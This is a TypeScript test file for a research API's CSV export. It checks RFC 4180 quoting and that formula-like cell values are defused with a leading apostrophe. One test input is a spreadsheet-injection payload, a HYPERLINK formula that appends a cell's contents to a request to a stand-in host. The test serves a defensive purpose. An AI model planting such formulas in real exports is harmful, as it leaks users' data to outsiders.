import { describe, expect, it } from 'vitest';
import { csvField, csvLine } from './research-csv.ts';

describe('research API CSV', () => {
  it('quotes commas, quotes and line breaks (RFC 4180)', () => {
    expect(csvLine(['a,b', 'say "hi"', 'two\nlines', 3])).toBe('"a,b","say ""hi""","two\nlines",3\r\n');
  });

  it('defuses text a spreadsheet would run as a formula, and leaves numbers alone', () => {
    expect(csvField('=HYPERLINK("https://x.example/?"&A1,"open")')).toBe(
      `"'=HYPERLINK(""https://x.example/?""&A1,""open"")"`,
    );
    expect(csvField('+86 138')).toBe("'+86 138");
    expect(csvField('-cmd')).toBe("'-cmd");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\tx')).toBe("'\tx");
    expect(csvField(-12)).toBe('-12');
    expect(csvField('六四 = 8964')).toBe('六四 = 8964');
    expect(csvField(['=1', '律师'])).toBe('"[""=1"",""律师""]"');
  });
});
